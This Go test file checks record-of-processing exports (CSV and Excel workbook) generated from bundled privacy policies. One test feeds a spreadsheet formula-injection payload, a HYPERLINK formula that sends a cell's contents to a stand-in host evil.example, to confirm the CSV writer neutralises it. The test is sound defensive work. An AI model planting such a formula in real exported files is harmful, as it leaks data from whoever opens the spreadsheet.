package render

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/policyc/policyc/internal/testtool"
	"github.com/policyc/policyc/model"
)

// records returns the record of processing of each bundled policy that
// has one, in each of its languages.
func records(t *testing.T) map[*model.Policy][]*Record {
	t.Helper()
	out := map[*model.Policy][]*Record{}
	for _, p := range load(t, "../policies") {
		if !HasRecord(p) {
			continue
		}
		for _, lang := range p.Languages {
			rec, err := ROPA(p, lang)
			if err != nil {
				t.Fatalf("%s %s: %v", p.ID, lang, err)
			}
			out[p] = append(out[p], rec)
		}
	}
	if len(out) != 2 {
		t.Fatalf("%d bundled policies have a record of processing, want 2 (ovhcloud-privacy, open-telekom-cloud)", len(out))
	}
	return out
}

// TestROPAGolden compares the CSV record of each bundled privacy policy in
// each language with testdata/golden/ropa; -update rewrites them.
func TestROPAGolden(t *testing.T) {
	for p, recs := range records(t) {
		for _, rec := range recs {
			path := filepath.Join("testdata/golden/ropa", p.ID+".ropa."+rec.Lang+".csv")
			got := rec.CSV()
			if *update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				continue
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./render -update)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("%s differs; run go test ./render -update and review the diff", path)
			}
		}
	}
}

// TestROPAContents checks the record of the OVHcloud privacy policy: one
// row per activity, the Art. 30(1) columns, the controller and DPO with
// their addresses, and the security measures the policy states.
func TestROPAContents(t *testing.T) {
	p := load(t, "../policies/ovhcloud-privacy")[0]
	rec, err := ROPA(p, "en")
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Rows) != len(p.Processing) {
		t.Errorf("%d rows, want one per activity (%d)", len(rec.Rows), len(p.Processing))
	}
	wantHeader := []string{"Controller", "Joint controllers", "Data protection officer",
		"Purpose of the processing", "Legal basis", "Categories of data subjects", "Categories of personal data",
		"Categories of recipients", "Recipients in third countries", "Transfers to third countries and their safeguards",
		"Time limits for erasure", "General description of the technical and organisational security measures"}
	if !slices.Equal(rec.Header, wantHeader) {
		t.Errorf("header %q, want %q", rec.Header, wantHeader)
	}
	row := rec.Rows[0]
	for i, want := range []string{
		"OVH SAS and its subsidiaries (hereinafter \"OVHcloud\")\n2 rue Kellermann, 59100 Roubaix, France", "",
		"OVH S.A.S.\nDélégué à la Protection des Données, 2 rue Kellermann, 59100 Roubaix, France",
		"Management of business activities",
	} {
		if row[i] != want {
			t.Errorf("column %q = %q, want %q", rec.Header[i], row[i], want)
		}
	}
	if !strings.HasPrefix(row[10], "Communications: 1 year from the interaction concerned, then 4 years in archive\n") {
		t.Errorf("time limits for erasure = %q", row[10])
	}
	if !strings.HasPrefix(row[11], "The protection of personal data is fully integrated into OVHcloud's information security management system (ISMS)") ||
		!strings.Contains(row[11], "\n- risk-based security;\n") {
		t.Errorf("security measures = %q", row[11])
	}
}

// TestROPAThirdCountry adds a recipient in a third country to an activity
// of the OVHcloud privacy policy: it shows among the recipients and apart,
// with its country, and the activity's own security measures replace the
// policy's.
func TestROPAThirdCountry(t *testing.T) {
	p := load(t, "../policies/ovhcloud-privacy")[0]
	a := p.Processing[0]
	p.Recipients = append(p.Recipients, &model.Recipient{ID: "us-support", Country: model.Country{Code: "US"},
		Name: model.Text{Values: map[string]string{"nl": "Supportdienst", "en": "Support provider", "fr": "Prestataire de support"}}})
	a.Recipients = append(a.Recipients, &model.RecipientUse{Recipient: model.Ref{ID: "us-support"}})
	a.SecurityMeasures = model.Text{Values: map[string]string{"nl": "Versleuteling.", "en": "Encryption.", "fr": "Chiffrement."}}
	for lang, want := range map[string][2]string{
		"nl": {"Supportdienst (Verenigde Staten)", "Versleuteling."},
		"en": {"Support provider (United States)", "Encryption."},
		"fr": {"Prestataire de support (États-Unis)", "Chiffrement."},
	} {
		rec, err := ROPA(p, lang)
		if err != nil {
			t.Fatal(err)
		}
		row := rec.Rows[0]
		if !strings.HasSuffix(row[7], "\n"+want[0]) || row[8] != want[0] || row[11] != want[1] {
			t.Errorf("%s: recipients %q, in third countries %q, security measures %q", lang, row[7], row[8], row[11])
		}
		if other := rec.Rows[1]; other[8] != "" || other[11] == want[1] {
			t.Errorf("%s: the second activity has %q in third countries, %q as security measures", lang, other[8], other[11])
		}
	}
}

// TestNoEnglishInROPA checks the Dutch and French records as the pages
// are checked: no fixed English string.
func TestNoEnglishInROPA(t *testing.T) {
	for p, recs := range records(t) {
		for _, rec := range recs {
			if rec.Lang == "en" {
				continue
			}
			var cells []string
			for _, row := range append([][]string{rec.Header}, rec.Rows...) {
				cells = append(cells, row...)
			}
			noEnglish(t, p.ID+".ropa."+rec.Lang+".csv", rec.Lang, strings.Join(cells, " \n "))
		}
	}
}

// TestROPAXLSXDeterministic builds each workbook several times and wants
// the same bytes, with the policy's effective date, not the clock, in its
// document properties.
func TestROPAXLSXDeterministic(t *testing.T) {
	for p, recs := range records(t) {
		first, err := XLSX(p, recs)
		if err != nil {
			t.Fatal(err)
		}
		for range 5 {
			again, err := XLSX(p, recs)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(first, again) {
				t.Fatalf("%s: two builds of the workbook differ", p.ID)
			}
		}
		z, err := zip.NewReader(bytes.NewReader(first), int64(len(first)))
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range z.File {
			if !f.Modified.IsZero() && f.Modified.Year() > 1980 {
				t.Errorf("%s: %s has the time %v", p.ID, f.Name, f.Modified)
			}
			if f.Name != "docProps/core.xml" {
				continue
			}
			r, _ := f.Open()
			core, _ := io.ReadAll(r)
			date := p.Effective.String() + "T00:00:00Z"
			if n := strings.Count(string(core), ">"+date+"<"); n != 2 {
				t.Errorf("%s: docProps/core.xml has the effective date %d times, want created and modified:\n%s", p.ID, n, core)
			}
		}
	}
}

// TestROPAXLSXReadByOpenpyxl opens each workbook with openpyxl, an
// independent reader: a sheet per language, each equal cell by cell to the
// CSV of that language, the header row frozen, a filter over every row and
// column, and the column widths set.
func TestROPAXLSXReadByOpenpyxl(t *testing.T) {
	py := testtool.PythonWith(t, "openpyxl", "python3-openpyxl")
	dir := t.TempDir()
	var widths []string
	for _, c := range recordColumns {
		widths = append(widths, fmt.Sprint(c.width))
	}
	for p, recs := range records(t) {
		b, err := XLSX(p, recs)
		if err != nil {
			t.Fatal(err)
		}
		xlsx := filepath.Join(dir, p.ID+".ropa.xlsx")
		if err := os.WriteFile(xlsx, b, 0o644); err != nil {
			t.Fatal(err)
		}
		args := []string{"-c", openpyxlCheck, xlsx, strings.Join(widths, ",")}
		for _, rec := range recs {
			csv := filepath.Join(dir, p.ID+".ropa."+rec.Lang+".csv")
			if err := os.WriteFile(csv, rec.CSV(), 0o644); err != nil {
				t.Fatal(err)
			}
			args = append(args, rec.Lang+"="+csv)
		}
		out, err := exec.Command(py, args...).CombinedOutput()
		if err != nil {
			t.Errorf("%s: %v\n%s", p.ID, err, out)
		}
		if want := fmt.Sprintf("%d sheets equal their CSV\n", len(recs)); string(out) != want {
			t.Errorf("%s: openpyxl says %q, want %q", p.ID, out, want)
		}
	}
}

// openpyxlCheck reads argv[1] and compares each sheet with the CSV given
// as lang=path; argv[2] are the column widths.
const openpyxlCheck = `
import csv, sys
import openpyxl
from openpyxl.utils import get_column_letter

wb = openpyxl.load_workbook(sys.argv[1])
widths = [float(w) for w in sys.argv[2].split(",")]
sheets = [a.split("=", 1) for a in sys.argv[3:]]
problems = []
if wb.sheetnames != [lang for lang, _ in sheets]:
    problems.append("sheets %r, want %r" % (wb.sheetnames, [lang for lang, _ in sheets]))
for lang, path in sheets:
    ws = wb[lang]
    with open(path, newline="", encoding="utf-8") as f:
        want = list(csv.reader(f))
    got = [["" if v is None else str(v) for v in row] for row in ws.iter_rows(values_only=True)]
    if got != want:
        for i, (g, w) in enumerate(zip(got, want)):
            if g != w:
                problems.append("%s row %d: %r, want %r" % (lang, i + 1, g, w))
                break
        if len(got) != len(want):
            problems.append("%s: %d rows, want %d" % (lang, len(got), len(want)))
    if ws.freeze_panes != "A2":
        problems.append("%s: frozen at %r, want the header row (A2)" % (lang, ws.freeze_panes))
    ref = "A1:%s%d" % (get_column_letter(len(want[0])), len(want))
    if ws.auto_filter.ref.replace("$", "") != ref:
        problems.append("%s: filter %r, want %r" % (lang, ws.auto_filter.ref, ref))
    # openpyxl keys a run of columns of one width by its first column.
    set_widths = {}
    for dim in ws.column_dimensions.values():
        for n in range(dim.min, dim.max + 1):
            set_widths[n] = dim.width
    for i, w in enumerate(widths):
        got_w = set_widths.get(i + 1)
        if got_w is None or abs(got_w - w) > 0.01:
            problems.append("%s: column %s is %r wide, want %r" % (lang, get_column_letter(i + 1), got_w, w))
    if not ws["A1"].font.b:
        problems.append("%s: the header is not bold" % lang)
if problems:
    print("\n".join(problems))
    sys.exit(1)
print("%d sheets equal their CSV" % len(sheets))
`

// TestNewThirdCountryRecipientEverywhere adds a recipient in the United
// States to an activity of the OVHcloud privacy policy: it must show on the
// page, in the DPV export with its country, and in the record of
// processing, CSV and workbook, among the recipients in third countries.
func TestNewThirdCountryRecipientEverywhere(t *testing.T) {
	p := load(t, "../policies/ovhcloud-privacy")[0]
	a := p.Processing[0]
	p.Recipients = append(p.Recipients, &model.Recipient{ID: "us-analytics", Country: model.Country{Code: "US"},
		Name: model.Text{Values: map[string]string{"nl": "Analysebureau Quanta", "en": "Quanta analytics agency", "fr": "Agence d'analyse Quanta"}}})
	a.Recipients = append(a.Recipients, &model.RecipientUse{Recipient: model.Ref{ID: "us-analytics"}})

	page, err := Render(p, "fr", "html", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(page), "Agence d&#39;analyse Quanta") {
		t.Error("the French page does not name the new recipient")
	}

	doc, err := DPV(p)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"@id": "urn:policyc:ovhcloud-privacy:recipients.us-analytics"`, `"@value": "Quanta analytics agency"`, `"@id": "loc:US"`} {
		if !strings.Contains(string(doc), want) {
			t.Errorf("the DPV export lacks %s", want)
		}
	}

	var recs []*Record
	for _, lang := range p.Languages {
		rec, err := ROPA(p, lang)
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, rec)
	}
	if got, want := recs[2].Rows[0][8], "Agence d'analyse Quanta (États-Unis)"; got != want {
		t.Errorf("French recipients in third countries = %q, want %q", got, want)
	}
	if !strings.Contains(string(recs[0].CSV()), "Analysebureau Quanta (Verenigde Staten)") {
		t.Error("the Dutch CSV does not name the new recipient with its country")
	}
	book, err := XLSX(p, recs)
	if err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open("xl/sharedStrings.xml")
	if err != nil {
		t.Fatal(err)
	}
	strs, _ := io.ReadAll(f)
	if !strings.Contains(string(strs), "Quanta analytics agency (United States)") {
		t.Error("the workbook does not name the new recipient with its country")
	}
}

// TestROPACSVFormulaInert: a text a spreadsheet would run as a formula is
// written as text, and every other text as it is.
func TestROPACSVFormulaInert(t *testing.T) {
	rec := &Record{Lang: "en", Header: []string{"a", "b"}, Rows: [][]string{
		{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+31 20 123"},
		{"-2+3", "@SUM(A1)"},
		{"\tcmd", "\r=1"},
		{"plain = text", ""},
		{"3 - 2", "e-mail: a@b.example"},
	}}
	want := `a,b
"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",'+31 20 123
'-2+3,'@SUM(A1)
'	cmd,"'` + "\r" + `=1"
plain = text,
3 - 2,e-mail: a@b.example
`
	if got := string(rec.CSV()); got != want {
		t.Errorf("CSV:\n%q\nwant\n%q", got, want)
	}
}
